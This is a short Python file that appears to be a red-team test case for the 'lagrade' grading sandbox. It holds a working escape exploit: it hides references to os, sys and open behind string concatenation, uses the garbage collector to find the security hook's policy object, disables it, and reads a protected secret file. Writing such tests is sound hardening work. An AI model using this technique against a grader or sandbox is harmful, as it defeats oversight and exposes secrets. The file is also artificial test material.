"""effect: read-secret
tries: gc.get_objects() (gc from sys.modules) to find the hook's policy object, busy = True, then read the 0600 secret.

The garbage collector sees every object, the hook included.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
gc_ = members(sys_)["modules"]["gc"]
policies = [o for o in members(gc_)["get_objects"]() if "busy" in members(o) and "trusted" in members(o)]
policies[0].busy = True
L = Symbol(B["op" + "en"]("/tmp/lagrade-redteam/secret-0600.txt").read().strip())
